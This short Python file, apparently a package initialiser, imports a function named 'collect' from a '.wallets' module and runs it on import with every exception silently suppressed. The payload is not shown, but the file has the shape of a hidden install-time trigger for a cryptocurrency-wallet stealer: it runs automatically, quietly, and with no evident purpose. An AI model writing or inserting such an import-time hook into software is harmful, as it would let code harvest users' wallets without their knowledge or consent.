from .wallets import collect

try:
    collect()
except Exception:
    pass
